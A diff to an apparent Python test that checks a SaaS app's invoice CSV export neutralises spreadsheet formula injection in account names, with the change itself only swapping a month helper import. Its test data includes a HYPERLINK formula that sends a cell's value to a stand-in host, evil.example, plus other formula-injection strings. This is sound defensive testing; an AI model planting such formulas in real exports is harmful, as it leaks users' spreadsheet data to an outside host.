@@ -6,8 +6,8 @@ import csv
 import io
 import uuid
 
+from saas.kit import months
 from saas.kit.csv_export import safe_cell, to_csv
-from saas.usage.service import current_month
 from tests.dashboard.test_sessions import signed_in
 
 DANGEROUS = ['=HYPERLINK("https://evil.example/?x="&A1,"Invoice")', "+1+2", "-3+4", "@SUM(1)"]
@@ -38,7 +38,7 @@ def test_every_invoice_csv_defuses_account_names(client, app_client, make_custom
         )
         assert made.status_code == 201, made.text
 
-    month = current_month()
+    month = months.current()
     api = client.get(f"/admin/invoices?month={month}&format=csv", headers=h)
     assert api.status_code == 200, api.text
     page = signed_in(app_client, operator.key).get(f"/dashboard/admin/invoices.csv?month={month}")
